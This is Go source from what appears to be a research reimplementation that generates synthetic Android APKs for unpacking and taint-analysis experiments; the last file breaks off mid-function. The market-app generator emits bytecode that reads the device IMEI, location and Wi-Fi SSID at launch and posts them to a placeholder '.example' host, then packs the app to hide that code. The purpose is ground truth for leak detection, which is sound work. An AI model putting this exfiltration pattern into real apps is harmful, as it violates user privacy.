	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		for _, w := range workers {
			a.InvokeStatic(w.desc(), "work", "()I")
			a.MoveResult(0)
		}
		a.ReturnVoid()
	})
	version := fmt.Sprintf("1.%d", link)
	pkg, err := p.BuildAPK("gen.chain", version, mainDesc)
	if err != nil {
		return App{}, err
	}
	return App{
		Name:    fmt.Sprintf("chain-v%d", link+1),
		Package: "gen.chain",
		Version: version,
		APK:     pkg,
	}, nil
}

// chainWorkerBody emits one worker: a never-taken gate (one UCB, hence one
// forced run per campaign) guarding a short block, then a seeded arithmetic
// chain whose shape and constants both change when the seed does.
func chainWorkerBody(a *dexgen.Asm, seed uint32) {
	a.Const(0, 0)
	a.IfZ(bytecode.OpIfNez, 0, "gated")
	a.Goto("body")
	a.Label("gated")
	a.Const(1, int64(seed%31)+1)
	a.Binop(bytecode.OpMulInt, 0, 1, 1)
	a.Label("body")
	a.Const(0, int64(seed%97)+1)
	a.Const(1, int64(seed%13)+3)
	ops := []bytecode.Opcode{
		bytecode.OpAddInt, bytecode.OpSubInt, bytecode.OpMulInt,
		bytecode.OpXorInt, bytecode.OpOrInt,
	}
	state := seed
	for i := 0; i < 6+int(seed%5); i++ {
		state = state*1664525 + 1013904223
		a.Binop(ops[state%uint32(len(ops))], 0, 0, 1)
	}
	a.Return(0)
}
