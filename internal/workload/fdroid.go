package workload

import (
	"errors"
	"fmt"

	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// fdroidSpecs are the Table VI applications with the paper's instruction
// counts.
var fdroidSpecs = []struct {
	pkg     string
	version string
	target  int
}{
	{"be.ppareit.swiftp", "2.14.2", 8812},
	{"fr.gaulupeau.apps.InThePoche", "2.0.0b1", 29231},
	{"org.gnucash.android", "2.1.7", 56565},
	{"org.liberty.android.fantastischmemopro", "10.9.993", 57575},
	{"com.fastaccess.github", "2.1.0", 93913},
}

// FDroidApp is an interactive application for the coverage experiments.
type FDroidApp struct {
	App
	// Natives registers the app's JNI functions (one of which crashes on a
	// forced path, reproducing the paper's native-crash coverage loss).
	Natives map[string]art.NativeFunc
}

// ErrNativeCrash is the infrastructure failure raised by the crashing
// native path.
var ErrNativeCrash = errors.New("workload: native library crashed (SIGSEGV)")

// FDroidApps generates the five F-Droid applications of Tables VI and VII,
// sized to the paper's instruction counts.
func FDroidApps() ([]FDroidApp, error) {
	var out []FDroidApp
	for _, spec := range fdroidSpecs {
		app, err := buildInteractiveApp(spec.pkg, spec.version, spec.target)
		if err != nil {
			return nil, fmt.Errorf("workload: %s: %w", spec.pkg, err)
		}
		out = append(out, app)
	}
	return out, nil
}

// buildInteractiveApp constructs an app whose code splits into: always-code
// reached from button handlers, input-gated code (a secret intent extra no
// fuzzer guesses), second-level gated code, dead classes, unthrown
// exception handlers, and a post-native-crash tail. The split calibrates
// the Sapienz-vs-force-execution coverage gap of Table VII.
func buildInteractiveApp(pkg, version string, target int) (FDroidApp, error) {
	const modules = 10
	const deadClasses = 4
	// Per-module instruction budget shares (fractions of the target).
	unit := target / (modules * 100)
	if unit < 1 {
		unit = 1
	}
	alwaysN := unit * 33 // per module: reached by clicking
	gatedN := unit * 27  // behind the secret extra
	gated2N := unit * 24 // second-level gate
	deadN := target * 10 / (100 * deadClasses)
	handlerN := unit * 3 // inside never-thrown exception handlers
	tailN := unit * 3    // after the crashing native call

	desc := "Lfd/Main;"
	build := func(pad int) (*dex.File, error) {
		p := dexgen.New()
		for d := 0; d < deadClasses; d++ {
			dead := fillerClass(p, fmt.Sprintf("Lfd/dead/Cmd%d;", d), 4, deadN/4, uint32(d)*13+5)
			if d == 0 {
				// Dead branches contribute permanently uncovered edges to
				// the branch-coverage denominator.
				dead.Static("branchy", "I", nil, func(a *dexgen.Asm) {
					branchyBody(a, 4, 17)
				})
			}
		}
		for m := 0; m < modules; m++ {
			m := m
			mod := p.Class(fmt.Sprintf("Lfd/Mod%d;", m), "")
			gated := p.Class(fmt.Sprintf("Lfd/Gated%d;", m), "")
			deep := p.Class(fmt.Sprintf("Lfd/Deep%d;", m), "")
			for i := 0; i < 3; i++ {
				i := i
				mod.Static(fmt.Sprintf("always%d", i), "I", nil, func(a *dexgen.Asm) {
					fillerBody(a, alwaysN/3, uint32(m*31+i))
				})
				gated.Static(fmt.Sprintf("hidden%d", i), "I", nil, func(a *dexgen.Asm) {
					fillerBody(a, gatedN/3, uint32(m*43+i))
				})
				deep.Static(fmt.Sprintf("deep%d", i), "I", nil, func(a *dexgen.Asm) {
					fillerBody(a, gated2N/3, uint32(m*57+i))
				})
			}
			// The module entry: run always-code, then gate on the secret.
			mod.Static("entry", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
				for i := 0; i < 3; i++ {
					a.InvokeStatic(fmt.Sprintf("Lfd/Mod%d;", m), fmt.Sprintf("always%d", i), "()I")
				}
				a.ConstString(0, "open-sesame")
				// Constant-receiver comparison: null-safe when the intent
				// carries no extra.
				a.InvokeVirtual("Ljava/lang/String;", "equals",
					"(Ljava/lang/Object;)Z", 0, a.P(0))
				a.MoveResult(1)
				a.IfZ(bytecode.OpIfEqz, 1, "locked")
				for i := 0; i < 3; i++ {
					a.InvokeStatic(fmt.Sprintf("Lfd/Gated%d;", m), fmt.Sprintf("hidden%d", i), "()I")
				}
				a.InvokeStatic(fmt.Sprintf("Lfd/Gated%d;", m), "second", "(I)V", 1)
				a.Label("locked")
				a.ReturnVoid()
			})
			// Second-level gate inside the gated class.
			gated.Static("second", "V", []string{"I"}, func(a *dexgen.Asm) {
				a.Const(0, 77)
				a.If(bytecode.OpIfNe, a.P(0), 0, "out")
				for i := 0; i < 3; i++ {
					a.InvokeStatic(fmt.Sprintf("Lfd/Deep%d;", m), fmt.Sprintf("deep%d", i), "()I")
				}
				a.Label("out")
				a.ReturnVoid()
			})
			switch m {
			case 0:
				// An exception handler that is never thrown into: force
				// execution cannot steer non-branch exceptions (the paper's
				// third coverage-loss category).
				mod.Static("guarded", "I", nil, func(a *dexgen.Asm) {
					a.Label("ts")
					a.Const(0, 4)
					a.Const(1, 2)
					a.Binop(bytecode.OpDivInt, 2, 0, 1) // never throws
					a.Label("te")
					a.Return(2)
					a.Label("h")
					a.MoveException(3)
					branchyBody(a, 2, 23)
					a.Catch("ts", "te", "", "h")
					_ = handlerN
				})
			case 1:
				// A gated path whose native call crashes: the tail after it
				// stays uncovered (the paper's second category).
				mod.Native("nativeProbe", "I")
				mod.Static("fragile", "V", []string{"I"}, func(a *dexgen.Asm) {
					a.Const(0, 1)
					a.If(bytecode.OpIfNe, a.P(0), 0, "out")
					a.InvokeStatic("Lfd/Mod1;", "nativeProbe", "()I")
					a.MoveResult(1)
					fillerBody(a, tailN, 11)
					a.Label("out")
					a.ReturnVoid()
				})
			}
		}
		// Click listeners and the main activity.
		for m := 0; m < modules; m++ {
			m := m
			ldesc := fmt.Sprintf("Lfd/Listener%d;", m)
			l := p.Class(ldesc, "", "Landroid/view/View$OnClickListener;")
			l.Ctor("Ljava/lang/Object;", nil)
			l.Field("act", "Landroid/app/Activity;")
			l.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
				a.IGetObject(0, a.This(), ldesc, "act", "Landroid/app/Activity;")
				a.InvokeVirtual("Landroid/app/Activity;", "getIntent",
					"()Landroid/content/Intent;", 0)
				a.MoveResultObject(1)
				a.ConstString(2, "cmd")
				a.InvokeVirtual("Landroid/content/Intent;", "getStringExtra",
					"(Ljava/lang/String;)Ljava/lang/String;", 1, 2)
				a.MoveResultObject(3)
				a.InvokeStatic(fmt.Sprintf("Lfd/Mod%d;", m), "entry",
					"(Ljava/lang/String;)V", 3)
				if m == 0 {
					a.InvokeStatic("Lfd/Mod0;", "guarded", "()I")
				}
				if m == 1 {
					a.Const(4, 0)
					a.InvokeStatic("Lfd/Mod1;", "fragile", "(I)V", 4)
				}
				a.ReturnVoid()
			})
		}
		main := p.Class(desc, "Landroid/app/Activity;")
		main.Ctor("Landroid/app/Activity;", nil)
		main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			for m := 0; m < modules; m++ {
				ldesc := fmt.Sprintf("Lfd/Listener%d;", m)
				a.Const(0, int64(m+1))
				a.InvokeVirtual("Landroid/app/Activity;", "findViewById",
					"(I)Landroid/view/View;", a.This(), 0)
				a.MoveResultObject(1)
				a.NewInstance(2, ldesc)
				a.InvokeDirect(ldesc, "<init>", "()V", 2)
				a.IPutObject(a.This(), 2, ldesc, "act", "Landroid/app/Activity;")
				a.InvokeVirtual("Landroid/view/View;", "setOnClickListener",
					"(Landroid/view/View$OnClickListener;)V", 1, 2)
			}
			a.ReturnVoid()
		})
		if pad > 0 {
			padClass(p, pad)
		}
		return p.Finish()
	}
	probe, err := build(16)
	if err != nil {
		return FDroidApp{}, err
	}
	delta := target - probe.InstructionCount() + 16
	if delta < 4 {
		return FDroidApp{}, fmt.Errorf("scaffold exceeds target by %d", 4-delta)
	}
	f, err := build(delta)
	if err != nil {
		return FDroidApp{}, err
	}
	if got := f.InstructionCount(); got != target {
		return FDroidApp{}, fmt.Errorf("sized to %d, want %d", got, target)
	}
	data, err := f.Write()
	if err != nil {
		return FDroidApp{}, err
	}
	a := newAPK(pkg, version, desc)
	a.SetDex(data)
	return FDroidApp{
		App: App{Name: pkg, Package: pkg, Version: version, APK: a, Insns: target},
		Natives: map[string]art.NativeFunc{
			"Lfd/Mod1;->nativeProbe()I": func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
				return art.Value{}, ErrNativeCrash
			},
		},
	}, nil
}
