package workload

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
)

// MarketApp is one Table V application: a packed app whose analytics
// module exfiltrates device identifiers.
type MarketApp struct {
	App
	Set      string // application market: A=Google Play, B=360, C=Wandoujia
	Installs string
	Flows    int // ground-truth taint flows
	Packer   packer.Packer
	Packed   *apk.APK
}

// marketSpecs mirror Table V's nine applications. Which packer protects
// each app is our assignment (the paper does not disclose it); every
// operational packer appears at least once.
var marketSpecs = []struct {
	pkg      string
	version  string
	set      string
	installs string
	flows    int
	loc      bool
	ssid     bool
	packer   string
}{
	{"com.lenovo.anyshare", "3.6.68", "A", "100 million", 4, false, false, "360"},
	{"com.moji.mjweather", "6.0102.02", "A", "1 million", 5, true, false, "Alibaba"},
	{"com.rongcai.show", "3.4.9", "A", "100 thousand", 3, false, false, "Tencent"},
	{"com.wawoo.snipershootwar", "2.6", "B", "10 million", 4, false, false, "Baidu"},
	{"com.wawoo.gunshootwar", "2.6", "B", "10 million", 5, false, false, "Bangcle"},
	{"com.alex.lookwifipassword", "2.9.6", "B", "100 thousand", 2, false, true, "360"},
	{"com.gome.eshopnew", "4.3.5", "C", "15.63 million", 3, false, true, "Alibaba"},
	{"com.szzc.ucar.pilot", "3.4.0", "C", "3.59 million", 5, true, false, "Baidu"},
	{"com.pingan.pabank.activity", "2.6.9", "C", "7.9 million", 14, true, false, "Tencent"},
}

// MarketApps generates and packs the nine Table V applications. Every app
// sends the device ID to a remote server; three also leak location and two
// leak the SSID, matching the paper's findings.
func MarketApps() ([]MarketApp, error) {
	var out []MarketApp
	for _, spec := range marketSpecs {
		app, err := buildMarketApp(spec.pkg, spec.version, spec.flows, spec.loc, spec.ssid)
		if err != nil {
			return nil, fmt.Errorf("workload: %s: %w", spec.pkg, err)
		}
		pk, err := packer.ByName(spec.packer)
		if err != nil {
			return nil, err
		}
		packed, err := pk.Pack(app.APK)
		if err != nil {
			return nil, fmt.Errorf("workload: pack %s: %w", spec.pkg, err)
		}
		out = append(out, MarketApp{
			App:      app,
			Set:      spec.set,
			Installs: spec.installs,
			Flows:    spec.flows,
			Packer:   pk,
			Packed:   packed,
		})
	}
	return out, nil
}

// buildMarketApp creates an app whose analytics class performs exactly
// `flows` distinct source-to-network flows at launch.
func buildMarketApp(pkg, version string, flows int, loc, ssid bool) (App, error) {
	imeiFlows := flows
	if loc {
		imeiFlows--
	}
	if ssid {
		imeiFlows--
	}
	if imeiFlows < 1 {
		return App{}, fmt.Errorf("workload: %s needs at least one IMEI flow", pkg)
	}
	p := dexgen.New()
	desc := "Lmarket/Main;"
	analytics := p.Class("Lmarket/Analytics;", "")
	analytics.Static("report", "V", []string{"Landroid/app/Activity;"}, func(a *dexgen.Asm) {
		grab := func(kind string) {
			// Each sink call is a distinct flow (unique call site).
			switch kind {
			case "imei":
				a.ConstString(0, "phone")
				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
				a.MoveResultObject(0)
				a.CheckCast(0, "Landroid/telephony/TelephonyManager;")
				a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
					"()Ljava/lang/String;", 0)
			case "location":
				a.ConstString(0, "location")
				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
				a.MoveResultObject(0)
				a.CheckCast(0, "Landroid/location/LocationManager;")
				a.ConstString(1, "gps")
				a.InvokeVirtual("Landroid/location/LocationManager;", "getLastKnownLocation",
					"(Ljava/lang/String;)Landroid/location/Location;", 0, 1)
				a.MoveResultObject(0)
				a.InvokeVirtual("Landroid/location/Location;", "toString",
					"()Ljava/lang/String;", 0)
			case "ssid":
				a.ConstString(0, "wifi")
				a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
					"(Ljava/lang/String;)Ljava/lang/Object;", a.P(0), 0)
				a.MoveResultObject(0)
				a.CheckCast(0, "Landroid/net/wifi/WifiManager;")
				a.InvokeVirtual("Landroid/net/wifi/WifiManager;", "getConnectionInfo",
					"()Landroid/net/wifi/WifiInfo;", 0)
				a.MoveResultObject(0)
				a.InvokeVirtual("Landroid/net/wifi/WifiInfo;", "getSSID",
					"()Ljava/lang/String;", 0)
			}
			a.MoveResultObject(1)
			a.ConstString(2, "https://stats."+pkg+".example/upload")
			a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
				"(Ljava/lang/String;Ljava/lang/String;)V", 2, 1)
		}
		for i := 0; i < imeiFlows; i++ {
			grab("imei")
		}
		if loc {
			grab("location")
		}
		if ssid {
			grab("ssid")
		}
		a.ReturnVoid()
	})
	main := p.Class(desc, "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeStatic("Lmarket/Analytics;", "report", "(Landroid/app/Activity;)V", a.This())
		a.ReturnVoid()
	})
	// Some product code around the analytics for realism.
	for c := 0; c < 6; c++ {
		fillerClass(p, fmt.Sprintf("Lmarket/Feature%d;", c), 5, 40, uint32(c)*19+3)
	}
	a, err := p.BuildAPK(pkg, version, desc)
	if err != nil {
		return App{}, err
	}
	data, err := a.Dex()
	if err != nil {
		return App{}, err
	}
	_ = data
	return App{Name: pkg, Package: pkg, Version: version, APK: a}, nil
}
