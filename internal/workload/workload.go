// Package workload generates the synthetic applications the paper's
// remaining experiments run on: the four AOSP applications of Table I
// (HTMLViewer, Calculator, Calendar, Contacts — sized to the paper's exact
// instruction counts), the five F-Droid applications of Tables VI/VII
// (interactive apps with input-gated code for the coverage experiments),
// the nine packed market applications of Table V, and the three popular
// applications of Table VIII (class-heavy launch behavior).
package workload

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
)

// App is one generated application.
type App struct {
	Name    string
	Package string
	Version string
	APK     *apk.APK
	Insns   int // actual instruction count of classes.dex
}

// fillerBody emits a deterministic arithmetic body with exactly n
// instructions (n >= 4): a computation chain ending in return of v0.
func fillerBody(a *dexgen.Asm, n int, seed uint32) {
	if n < 4 {
		n = 4
	}
	a.Const(0, int64(seed%97)+1) // 1 instruction
	a.Const(1, int64(seed%13)+3) // 1 instruction
	ops := []bytecode.Opcode{
		bytecode.OpAddInt, bytecode.OpSubInt, bytecode.OpMulInt,
		bytecode.OpXorInt, bytecode.OpOrInt, bytecode.OpAndInt,
		bytecode.OpShlInt,
	}
	state := seed
	for i := 0; i < n-3; i++ {
		state = state*1664525 + 1013904223
		op := ops[state%uint32(len(ops))]
		if op == bytecode.OpShlInt {
			// Keep shifts bounded.
			a.BinopLit8(bytecode.OpAndIntLit8, 1, 1, 7)
		} else {
			a.Binop(op, 0, 0, 1)
		}
	}
	a.Return(0)
}

// fillerClass adds one class with the given number of methods, each with
// roughly insnsPerMethod instructions. It returns the class.
func fillerClass(p *dexgen.Program, desc string, methods, insnsPerMethod int, seed uint32) *dexgen.Class {
	cls := p.Class(desc, "")
	for m := 0; m < methods; m++ {
		m := m
		cls.Static(fmt.Sprintf("calc%d", m), "I", nil, func(a *dexgen.Asm) {
			fillerBody(a, insnsPerMethod, seed+uint32(m)*7919)
		})
	}
	return cls
}

// padClass appends a class holding one method with exactly n instructions,
// used to hit a target total exactly.
func padClass(p *dexgen.Program, n int) {
	cls := p.Class("Lgen/Pad;", "")
	cls.Static("pad", "V", nil, func(a *dexgen.Asm) {
		for i := 0; i < n-1; i++ {
			a.Nop()
		}
		a.ReturnVoid()
	})
}

// newAPK wraps apk.New for the generators.
func newAPK(pkg, version, mainActivity string) *apk.APK {
	return apk.New(pkg, version, mainActivity)
}

// branchyBody emits a body of n conditional branches over a constant,
// ending in return of v0.
func branchyBody(a *dexgen.Asm, n int, seed uint32) {
	a.Const(0, int64(seed%5))
	for i := 0; i < n; i++ {
		lbl := fmt.Sprintf("b%d", i)
		a.IfZ(bytecode.OpIfEqz, 0, lbl)
		a.AddLit(0, 0, 1)
		a.Label(lbl)
	}
	a.Return(0)
}
