package workload_test

import (
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/art"
	"dexlego/internal/workload"
)

func TestFDroidAppSizesAndStructure(t *testing.T) {
	apps, err := workload.FDroidApps()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{
		"be.ppareit.swiftp":                      8812,
		"fr.gaulupeau.apps.InThePoche":           29231,
		"org.gnucash.android":                    56565,
		"org.liberty.android.fantastischmemopro": 57575,
		"com.fastaccess.github":                  93913,
	}
	if len(apps) != len(want) {
		t.Fatalf("apps = %d", len(apps))
	}
	for _, app := range apps {
		if app.Insns != want[app.Package] {
			t.Errorf("%s = %d instructions, want %d", app.Package, app.Insns, want[app.Package])
		}
		// Every app must launch and expose clickable modules.
		rt := art.NewRuntime(art.DefaultPhone())
		for key, fn := range app.Natives {
			rt.RegisterNative(key, fn)
		}
		if err := rt.LoadAPK(app.APK); err != nil {
			t.Fatalf("%s: load: %v", app.Package, err)
		}
		if _, err := rt.LaunchActivity(); err != nil {
			t.Fatalf("%s: launch: %v", app.Package, err)
		}
		if got := len(rt.Clickables()); got != 10 {
			t.Errorf("%s: clickables = %d, want 10", app.Package, got)
		}
		// Clicking must execute without infrastructure failures (module 1's
		// native crash is gated behind a branch clicks never force).
		for _, id := range rt.Clickables() {
			if err := rt.PerformClick(id); err != nil {
				t.Errorf("%s: click %d: %v", app.Package, id, err)
			}
		}
	}
}

func TestMarketAppsGroundTruth(t *testing.T) {
	apps, err := workload.MarketApps()
	if err != nil {
		t.Fatal(err)
	}
	if len(apps) != 9 {
		t.Fatalf("apps = %d, want 9", len(apps))
	}
	locCount, ssidCount := 0, 0
	for _, app := range apps {
		// The unpacked app must produce exactly the declared flow count at
		// runtime, each one an HTTP exfiltration of tainted data.
		rt := art.NewRuntime(art.DefaultPhone())
		if err := rt.LoadAPK(app.APK); err != nil {
			t.Fatal(err)
		}
		if _, err := rt.LaunchActivity(); err != nil {
			t.Fatal(err)
		}
		leaks := 0
		var sawIMEI, sawLoc, sawSSID bool
		for _, ev := range rt.Sinks() {
			if !ev.Leaky() {
				continue
			}
			leaks++
			if ev.Sink != apimodel.SinkNetwork {
				t.Errorf("%s: non-network sink %v", app.Package, ev.Sink)
			}
			sawIMEI = sawIMEI || ev.Taint.Has(apimodel.TaintIMEI)
			sawLoc = sawLoc || ev.Taint.Has(apimodel.TaintLocation)
			sawSSID = sawSSID || ev.Taint.Has(apimodel.TaintSSID)
		}
		if leaks != app.Flows {
			t.Errorf("%s: runtime leaks = %d, want %d", app.Package, leaks, app.Flows)
		}
		if !sawIMEI {
			t.Errorf("%s: no IMEI leak (Table V says all nine leak the device ID)", app.Package)
		}
		if sawLoc {
			locCount++
		}
		if sawSSID {
			ssidCount++
		}
		// The packed form must not expose the analytics class in cleartext
		// for whole-DEX packers (method-extraction shells keep structure).
		if app.Packer.Name() != "Tencent" && app.Packer.Name() != "Bangcle" {
			data, err := app.Packed.Dex()
			if err != nil {
				t.Fatal(err)
			}
			if containsSub(data, []byte("Lmarket/Analytics;")) {
				t.Errorf("%s: analytics class visible in packed dex", app.Package)
			}
		}
	}
	if locCount != 3 {
		t.Errorf("location leakers = %d, want 3", locCount)
	}
	if ssidCount != 2 {
		t.Errorf("ssid leakers = %d, want 2", ssidCount)
	}
}

func containsSub(data, sub []byte) bool {
	for i := 0; i+len(sub) <= len(data); i++ {
		match := true
		for j := range sub {
			if data[i+j] != sub[j] {
				match = false
				break
			}
		}
		if match {
			return true
		}
	}
	return false
}

func TestPopularAppsLaunch(t *testing.T) {
	apps, err := workload.PopularApps()
	if err != nil {
		t.Fatal(err)
	}
	if len(apps) != 3 {
		t.Fatalf("apps = %d, want 3", len(apps))
	}
	var prev int
	for _, app := range apps {
		rt := art.NewRuntime(art.DefaultPhone())
		rt.MaxSteps = 1 << 40
		if err := rt.LoadAPK(app.APK); err != nil {
			t.Fatal(err)
		}
		if _, err := rt.LaunchActivity(); err != nil {
			t.Fatalf("%s: %v", app.Name, err)
		}
		sinks := rt.Sinks()
		if len(sinks) != 1 || sinks[0].Args[0] != "launched" {
			t.Errorf("%s: launch marker missing: %+v", app.Name, sinks)
		}
		// Snapchat > Instagram > WhatsApp in size, as in Table VIII.
		if prev != 0 && app.Insns >= prev {
			t.Errorf("%s: size ordering broken (%d >= %d)", app.Name, app.Insns, prev)
		}
		prev = app.Insns
	}
}

func TestAOSPChecksumDeterminism(t *testing.T) {
	apps, err := workload.AOSPApps()
	if err != nil {
		t.Fatal(err)
	}
	for _, app := range apps[:2] { // the small ones are enough here
		get := func() string {
			rt := art.NewRuntime(art.DefaultPhone())
			if err := rt.LoadAPK(app.APK); err != nil {
				t.Fatal(err)
			}
			if _, err := rt.LaunchActivity(); err != nil {
				t.Fatal(err)
			}
			for _, ev := range rt.Sinks() {
				if ev.Args[0] == "checksum" {
					return ev.Args[1]
				}
			}
			t.Fatalf("%s: no checksum", app.Name)
			return ""
		}
		if get() != get() {
			t.Errorf("%s: checksum not deterministic", app.Name)
		}
	}
}
