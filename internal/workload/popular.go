package workload

import (
	"fmt"

	"dexlego/internal/dexgen"
)

// popularSpecs mirror Table VIII's applications: launch-heavy apps whose
// startup initializes many classes.
var popularSpecs = []struct {
	name    string
	pkg     string
	version string
	classes int
}{
	{"Snapchat", "com.snapchat.android", "9.43.0.0", 160},
	{"Instagram", "com.instagram.android", "9.7.0", 120},
	{"WhatsApp", "com.whatsapp", "2.16.310", 60},
}

// PopularApps generates the three Table VIII applications. Their launch
// initializes every module class (static initializers plus warm-up calls),
// so launch time scales with class count — the behavior the
// ActivityManager timing measures.
func PopularApps() ([]App, error) {
	var out []App
	for _, spec := range popularSpecs {
		app, err := buildLaunchHeavyApp(spec.name, spec.pkg, spec.version, spec.classes)
		if err != nil {
			return nil, fmt.Errorf("workload: %s: %w", spec.name, err)
		}
		out = append(out, app)
	}
	return out, nil
}

func buildLaunchHeavyApp(name, pkg, version string, classes int) (App, error) {
	p := dexgen.New()
	desc := "Lpop/Main;"
	for c := 0; c < classes; c++ {
		c := c
		cls := p.Class(fmt.Sprintf("Lpop/Mod%d;", c), "")
		cls.StaticField("state", "I")
		// Launch cost is dominated by loading and linking (uninstrumented),
		// with a modest interpreted warm-up — the mix that puts the paper's
		// collection overhead near 2x on launch.
		for m := 0; m < 6; m++ {
			m := m
			cls.Static(fmt.Sprintf("feature%d", m), "I", nil, func(a *dexgen.Asm) {
				fillerBody(a, 90, uint32(c*7+m)*13+3)
			})
		}
		cls.Method(dexgen.MethodSpec{Name: "<clinit>", Ret: "V", Static: true}, func(a *dexgen.Asm) {
			fillerInit(a, fmt.Sprintf("Lpop/Mod%d;", c), 2, uint32(c)*11+1)
		})
		cls.Static("warmup", "I", nil, func(a *dexgen.Asm) {
			fillerBody(a, 8, uint32(c)*29+5)
		})
	}
	main := p.Class(desc, "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Const(0, 0)
		for c := 0; c < classes; c++ {
			a.InvokeStatic(fmt.Sprintf("Lpop/Mod%d;", c), "warmup", "()I")
			a.MoveResult(1)
			a.Binop(0x97 /* xor-int */, 0, 0, 1)
		}
		a.InvokeStatic("Ljava/lang/String;", "valueOf", "(I)Ljava/lang/String;", 0)
		a.MoveResultObject(2)
		a.ConstString(3, "launched")
		a.InvokeStatic("Landroid/util/Log;", "i",
			"(Ljava/lang/String;Ljava/lang/String;)I", 3, 2)
		a.ReturnVoid()
	})
	f, err := p.Finish()
	if err != nil {
		return App{}, err
	}
	data, err := f.Write()
	if err != nil {
		return App{}, err
	}
	a := newAPK(pkg, version, desc)
	a.SetDex(data)
	return App{Name: name, Package: pkg, Version: version, APK: a, Insns: f.InstructionCount()}, nil
}

// fillerInit emits a <clinit> that computes and stores a value into the
// class's static state field.
func fillerInit(a *dexgen.Asm, desc string, n int, seed uint32) {
	a.Const(0, int64(seed%89)+1)
	for i := 0; i < n; i++ {
		a.BinopLit8(0x0da /* mul-int/lit8 */, 0, 0, 3)
		a.BinopLit8(0x0d8 /* add-int/lit8 */, 0, 0, 7)
	}
	a.SPutInt(0, desc, "state")
	a.ReturnVoid()
}
