package workload

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// The whale is the memory-budget workload: an application whose collection
// result is deliberately heap-heavy. Many mid-sized filler methods make the
// result map wide, and a few giant methods (tens of thousands of
// instructions each) make individual collection trees deep enough that
// keeping every decoded tree resident through reassembly dominates the
// reveal's heap peak. The launch path executes every method, so the whole
// body is collected — nothing reassembles as a stub.

// WhaleConfig sizes a whale application. Zero fields select the defaults.
type WhaleConfig struct {
	// Classes × MethodsPerClass mid-sized filler methods of InsnsPerMethod
	// instructions each (defaults 40 × 8 × 64).
	Classes         int
	MethodsPerClass int
	InsnsPerMethod  int
	// GiantMethods giant static methods of GiantInsns instructions each
	// (defaults 3 × 60000) — each collects one tree whose serialized record
	// runs to megabytes.
	GiantMethods int
	GiantInsns   int
	// Seed varies the generated arithmetic deterministically.
	Seed uint32
}

func (c *WhaleConfig) defaults() {
	if c.Classes == 0 {
		c.Classes = 40
	}
	if c.MethodsPerClass == 0 {
		c.MethodsPerClass = 8
	}
	if c.InsnsPerMethod == 0 {
		c.InsnsPerMethod = 64
	}
	if c.GiantMethods == 0 {
		c.GiantMethods = 3
	}
	if c.GiantInsns == 0 {
		c.GiantInsns = 60000
	}
}

// Whale builds the memory-budget workload application.
func Whale(cfg WhaleConfig) (App, error) {
	cfg.defaults()
	p := dexgen.New()
	for c := 0; c < cfg.Classes; c++ {
		fillerClass(p, fmt.Sprintf("Lwhale/Mod%d;", c),
			cfg.MethodsPerClass, cfg.InsnsPerMethod, cfg.Seed+uint32(c)*31+7)
	}
	giant := p.Class("Lwhale/Giant;", "")
	for g := 0; g < cfg.GiantMethods; g++ {
		g := g
		giant.Static(fmt.Sprintf("huge%d", g), "I", nil, func(a *dexgen.Asm) {
			fillerBody(a, cfg.GiantInsns, cfg.Seed+uint32(g)*104729+13)
		})
	}
	main := p.Class("Lwhale/Main;", "Landroid/app/Activity;")
	main.Source("Whale.java")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		// Fold every method's result into a checksum so the launch executes
		// the entire body.
		a.Const(0, 0)
		for c := 0; c < cfg.Classes; c++ {
			for m := 0; m < cfg.MethodsPerClass; m++ {
				a.InvokeStatic(fmt.Sprintf("Lwhale/Mod%d;", c), fmt.Sprintf("calc%d", m), "()I")
				a.MoveResult(1)
				a.Binop(bytecode.OpXorInt, 0, 0, 1)
			}
		}
		for g := 0; g < cfg.GiantMethods; g++ {
			a.InvokeStatic("Lwhale/Giant;", fmt.Sprintf("huge%d", g), "()I")
			a.MoveResult(1)
			a.Binop(bytecode.OpXorInt, 0, 0, 1)
		}
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("whale.app", "1.0", "Lwhale/Main;")
	if err != nil {
		return App{}, fmt.Errorf("workload: whale: %w", err)
	}
	data, err := pkg.Dex()
	if err != nil {
		return App{}, err
	}
	f, err := dex.Read(data)
	if err != nil {
		return App{}, err
	}
	return App{
		Name:    "Whale",
		Package: "whale.app",
		Version: "1.0",
		APK:     pkg,
		Insns:   f.InstructionCount(),
	}, nil
}
