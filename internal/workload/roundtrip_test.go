package workload_test

import (
	"bytes"
	"testing"

	"dexlego/internal/dex"
	"dexlego/internal/workload"
)

// corpusApps collects every generated application in the workload —
// AOSP (Table I), F-Droid (Tables VI/VII), market (Table V, both the
// plain and packed forms), and popular (Table VIII) — keyed by a unique
// corpus name.
func corpusApps(t *testing.T) map[string][]byte {
	t.Helper()
	apps := make(map[string][]byte)
	add := func(name string, data []byte, err error) {
		if err != nil {
